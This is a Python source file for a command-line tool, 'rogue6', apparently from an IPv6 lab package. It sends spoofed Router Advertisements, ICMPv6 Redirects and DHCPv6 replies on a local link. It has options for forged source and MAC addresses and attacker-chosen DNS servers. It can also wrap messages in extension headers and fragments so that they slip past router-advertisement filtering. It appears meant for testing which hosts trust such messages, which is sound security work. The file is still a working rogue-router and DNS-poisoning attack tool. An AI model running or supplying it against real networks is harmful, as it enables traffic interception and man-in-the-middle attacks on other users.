"""rogue6: what a machine can send that is no router and no DHCPv6 server, to see who believes it.

    rogue6 ra --prefix 2001:db8:bad::/64            a router that is none
    rogue6 ra --headers do                          the same behind destination options
    rogue6 ra --headers frag,do --first 8           the first fragment does not show what it is
    rogue6 redirect --destination 3fff:e::1         "send that to me"
    rogue6 dhcp6 --to fe80::1234 --dns 2001:db8:bad::53

Messages go onto the link once, from this machine's own addresses unless others are named, and are
well formed down to the checksums. What a host on the link makes of them, it tells (`ip -6 route`).
"""

from __future__ import annotations

import argparse
import socket
import struct
import sys
from collections.abc import Sequence
from fcntl import ioctl
from ipaddress import IPv6Address, IPv6Network
from pathlib import Path

from ipv6lab.wire import dhcp6, rogue
from ipv6lab.wire.headers import ETH_P_IPV6, ethernet, multicast_mac

EVERYBODY = IPv6Address("ff02::1")
ELSEWHERE = IPv6Address("3fff:800::1")  # where nobody is (RFC 9637)
ANSWERS = {
    "advertise": dhcp6.ADVERTISE,
    "reply": dhcp6.REPLY,
    "reconfigure": dhcp6.RECONFIGURE,
}
SIOCGIFHWADDR = 0x8927
LINK_LOCAL_SCOPE = "20"
BROADCAST = "ff:ff:ff:ff:ff:ff"


def main(arguments: Sequence[str] | None = None) -> int:
    """Exit status 0, or 2 after one sentence about what is wrong."""
    try:
        chosen = _parser().parse_args(arguments)
        packets = _packets(chosen)
        _send(chosen, packets)
    except (ValueError, OSError) as error:
        said = error.strerror if isinstance(error, OSError) else error
        print(f"rogue6: {said}", file=sys.stderr)
        return 2
    print(f"{len(packets) * chosen.count} frames sent on {chosen.interface}")
    return 0


def _parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="rogue6",
        description="Send what only a router or a DHCPv6 server should send.",
        epilog="Headers by name, in the order in which they come: hbh (hop-by-hop options), do "
        "(destination options), rh (routing header), frag (fragment header: what stands behind it "
        "is cut after --first octets, or travels in one piece). NAME:OCTETS makes a longer one.",
    )
    common = argparse.ArgumentParser(add_help=False)
    add = common.add_argument
    add("-i", "--interface", default="eth0", metavar="NAME", help="where to send (eth0)")
    add("--to", type=IPv6Address, default=EVERYBODY, metavar="ADDRESS", help="whom (ff02::1)")
    add("--to-mac", metavar="MAC", help="whose; for an address that is no group, all by default")
    add("--source", type=IPv6Address, metavar="ADDRESS", help="in whose name (one's own)")
    add("--mac", metavar="MAC", help="by whose card (one's own)")
    add("--hop-limit", type=_number(0, 255), default=255, metavar="N", help="255")
    add("--headers", type=_headers, default=(), metavar="NAME,…", help="extension headers")
    add("--first", type=_number(8, 1232), metavar="OCTETS", help="of the first fragment")
    add("--last-first", action="store_true", help="send the last fragment before the first")
    add("--count", type=_number(1, 100), default=1, metavar="N", help="how often (1, at most 100)")
    commands = parser.add_subparsers(dest="command", required=True, metavar="COMMAND")

    ra = commands.add_parser("ra", parents=[common], help="a Router Advertisement")
    ra.add_argument("--prefix", type=IPv6Network, metavar="PREFIX", help="for addresses")
    ra.add_argument("--lifetime", type=_number(0, 9000), default=1800, metavar="SECONDS")
    ra.add_argument("--preference", choices=rogue.PREFERENCES, default="medium")
    ra.add_argument("--dns", type=IPv6Address, action="append", default=[], metavar="ADDRESS")

    redirect = commands.add_parser("redirect", parents=[common], help="a Redirect")
    redirect.add_argument("--destination", type=IPv6Address, default=ELSEWHERE, metavar="ADDRESS")
    redirect.add_argument("--target", type=IPv6Address, metavar="ADDRESS", help="oneself")

    answer = commands.add_parser("dhcp6", parents=[common], help="a DHCPv6 server's answer")
    answer.add_argument("kind", nargs="?", choices=ANSWERS, default="reply")
    answer.add_argument("--dns", type=IPv6Address, action="append", default=[], metavar="ADDRESS")
    answer.add_argument("--source-port", type=_number(1, 65535), default=547, metavar="PORT")
    answer.add_argument("--transaction", type=_number(0, 0xFFFFFF), metavar="NUMBER")
    return parser


class _number:
    """A number from `least` to `most`, decimal or 0x…"""

    def __init__(self, least: int, most: int) -> None:
        self._least, self._most = least, most
        self.__name__ = f"number from {least} to {most}"

    def __call__(self, text: str) -> int:
        value = int(text, 0)
        if not self._least <= value <= self._most:
            raise ValueError(text)
        return value


def _headers(text: str) -> tuple[rogue.Header, ...]:
    found = []
    for part in text.split(","):
        name, _colon, octets = part.partition(":")
        if name not in rogue.NAMES:
            raise argparse.ArgumentTypeError(f"{name!r} is none of {', '.join(rogue.NAMES)}")
        size = int(octets) if octets.isdecimal() else 8
        if size % 8 or not 8 <= size <= 1024 or (name == "frag" and size != 8):
            raise argparse.ArgumentTypeError(f"{part!r}: a multiple of 8 octets, at most 1024")
        found.append(rogue.Header(rogue.NAMES[name], size))
    return tuple(found)


def _packets(chosen: argparse.Namespace) -> list[bytes]:
    """The frames of one message."""
    mac = _plain(chosen.mac) if chosen.mac else own_mac(chosen.interface)
    source = chosen.source or own_address(chosen.interface)
    if chosen.command == "ra":
        message = rogue.advertisement(
            source,
            chosen.to,
            mac=mac,
            lifetime=chosen.lifetime,
            preference=chosen.preference,
            prefix=chosen.prefix,
            dns=chosen.dns,
        )
    elif chosen.command == "redirect":
        target = chosen.target or source
        message = rogue.redirect(source, chosen.to, target=target, to=chosen.destination)
    else:
        message = rogue.dhcp6_answer(
            source,
            chosen.to,
            mac=mac,
            kind=ANSWERS[chosen.kind],
            transaction=chosen.transaction,
            dns=chosen.dns,
            source_port=chosen.source_port,
        )
    form = rogue.Form(chosen.headers, chosen.first, chosen.last_first)
    if chosen.to_mac:
        card = _plain(chosen.to_mac)
    else:
        card = multicast_mac(chosen.to) if chosen.to.is_multicast else BROADCAST
    return [
        ethernet(mac, card, ETH_P_IPV6, packet)
        for packet in message.packets(form, chosen.hop_limit)
    ]


def _send(chosen: argparse.Namespace, frames: list[bytes]) -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as sock:
        sock.bind((chosen.interface, 0))
        for _time in range(chosen.count):
            for frame in frames:
                sock.send(frame)


def own_mac(interface: str) -> str:
    """Raises ValueError where there is no such interface."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        try:
            answer = ioctl(sock, SIOCGIFHWADDR, struct.pack("256s", interface.encode()[:15]))
        except OSError:
            raise ValueError(f"There is no interface {interface}; name another with -i.") from None
    return answer[18:24].hex(":")


def own_address(interface: str) -> IPv6Address:
    """Its link-local address. Raises ValueError where it has none."""
    for line in Path("/proc/net/if_inet6").read_text("ascii").splitlines():
        address, _index, _length, scope, _flags, name = line.split()
        if name == interface and scope == LINK_LOCAL_SCOPE:
            return IPv6Address(bytes.fromhex(address))
    raise ValueError(f"{interface} has no link-local address; name one with --source.")


def _plain(mac: str) -> str:
    data = bytes.fromhex(mac.replace(":", ""))
    if len(data) != 6:
        raise ValueError(f"{mac!r} is no MAC address.")
    return data.hex(":")
